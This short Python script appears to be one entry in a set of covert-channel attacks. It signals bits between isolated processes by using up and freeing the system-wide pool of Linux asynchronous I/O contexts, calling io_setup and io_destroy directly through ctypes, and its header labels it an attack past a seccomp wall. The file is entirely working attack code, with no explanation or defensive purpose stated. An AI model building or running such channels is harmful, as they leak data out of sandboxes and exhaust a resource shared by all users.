# attack: how many asynchronous requests all users together may have waiting
# wall: seccomp: io_setup
# slot: 0.2
# bits: 17

import ctypes

libc = ctypes.CDLL(None)
held = []


def put(n, bit):
    size = 16384
    while bit and size >= 16:
        context = ctypes.c_ulong()
        if libc.syscall(206, size, ctypes.byref(context)):
            size //= 2
        else:
            held.append(context)
    while not bit and held:
        libc.syscall(207, held.pop())


def get(n):
    context = ctypes.c_ulong()
    if libc.syscall(206, 64, ctypes.byref(context)):
        return 1
    libc.syscall(207, context)
    return 0
